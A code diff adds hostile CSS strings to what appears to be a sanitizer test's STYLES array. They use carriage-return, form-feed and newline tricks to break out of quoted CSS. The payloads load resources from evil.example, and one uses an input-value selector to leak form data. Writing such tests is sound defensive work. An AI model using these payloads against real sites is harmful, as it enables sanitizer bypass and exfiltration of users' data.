@@ -88,6 +88,21 @@ const STYLES = [
   "body{position:fixed;top:0;left:0;z-index:99999}",
   "rect{fill:paint(evil)}",
   "rect{fill:attr(href url)}",
+  // A string ends at a carriage return and at a form feed too.
+  ...["\r", "\f", "\n"].flatMap((end) => [
+    `rect{fill:'${end};}*{background:image-set('https://evil.example/r' 1x)}a{fill:'}`,
+    `@media '${end}{}*{background:image-set("https://evil.example/r" 1x)}'{a{fill:red}}`,
+    `@keyframes "${end}{}input[value^=s3]+div{background:url(https://evil.example/r)}"{from{fill:red}}`,
+    `a['${end}{}*{background:image-set("https://evil.example/r" 1x)}']{fill:red}`,
+    `rect{font-family:"${end}}body{background:url(https://evil.example/r)}";fill:red}`,
+    `rect{fill:url(#a${end})}body{background:url(https://evil.example/r)}`,
+  ]),
+  "rect{fill:red;&+div{background:url(https://evil.example/n)}}",
+  "@scope (body){div{background:url(https://evil.example/n)}}",
+  "@layer x{*{background:url(https://evil.example/n)}}",
+  "rect{background:image-set(var(--x,'https://evil.example/n') 1x)}",
+  "rect{fill:var(--x,url(https://evil.example/n))}",
+  "rect{cursor:image-set('https://evil.example/n' 1x),auto}",
 ];
 const ELEMENTS = [
   "<script>alert(1)</script>",
